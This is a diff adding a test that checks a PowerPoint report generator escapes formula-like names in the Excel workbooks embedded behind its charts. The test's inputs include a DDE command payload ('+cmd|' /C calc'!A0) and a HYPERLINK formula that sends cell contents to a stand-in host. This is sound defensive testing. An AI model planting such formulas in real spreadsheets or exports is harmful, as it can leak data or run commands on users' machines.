@@ -73,6 +73,41 @@ describe('the PowerPoint deck', () => {
 		expect(all).toMatch(/Team Liten[\s\S]*?<a:t>–<\/a:t>/);
 	});
 
+	it('neutralizes formula-like names in the workbooks behind its charts', async () => {
+		const data = reports.en;
+		const r = data.results;
+		const evil = (s: string) => `=HYPERLINK("http://x.example/"&A1,"${s}")`;
+		const hostile: ReportData = {
+			...data,
+			results: {
+				...r,
+				unit: { ...r.unit, name: '+cmd|\' /C calc\'!A0' },
+				areas: r.areas.map((a) => ({ ...a, name: evil(a.name) })),
+				questions: r.questions.map((q) => ('options' in q && q.options ? { ...q, options: q.options.map((o) => ({ ...o, label: `@${o.label}` })) } : q))
+			},
+			trend: { ...data.trend, areas: data.trend.areas.map((a) => ({ ...a, name: `-${a.name}` })), rounds: data.trend.rounds.map((x) => ({ ...x, name: `\t${x.name}` })) }
+		};
+		const zip = await JSZip.loadAsync(await renderDeck(hostile));
+		const books = Object.keys(zip.files).filter((f) => /^ppt\/embeddings\/.*\.xlsx$/.test(f));
+		expect(books.length).toBeGreaterThanOrEqual(4);
+		const texts: string[] = [];
+		for (const f of books) {
+			const book = await JSZip.loadAsync(await zip.file(f)!.async('nodebuffer'));
+			for (const part of ['xl/sharedStrings.xml', 'xl/tables/table1.xml']) {
+				const xml = (await book.file(part)?.async('string')) ?? '';
+				texts.push(...[...xml.matchAll(/<t(?: [^>]*)?>([^<]*)<\/t>/g)].map((m) => m[1]), ...[...xml.matchAll(/ name="([^"]*)"/g)].map((m) => m[1]));
+			}
+		}
+		const unescape = (s: string) => s.replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
+		const all = texts.map(unescape);
+		// The hostile names are there, as text: each behind an apostrophe.
+		expect(all).toContain(`'${evil(r.areas[0].name)}`);
+		expect(all).toContain(`'+cmd|' /C calc'!A0`);
+		expect(all.some((s) => s.startsWith("'@"))).toBe(true);
+		expect(all.some((s) => s.startsWith("'\t"))).toBe(true);
+		expect(all.filter((s) => /^[=+\-@\t\r]/.test(s))).toEqual([]);
+	});
+
 	it('is in Swedish for a Swedish reader, with decimal commas in its tables', () => {
 		const all = decks.sv.slides.join('\n');
 		const r = reports.sv.results;
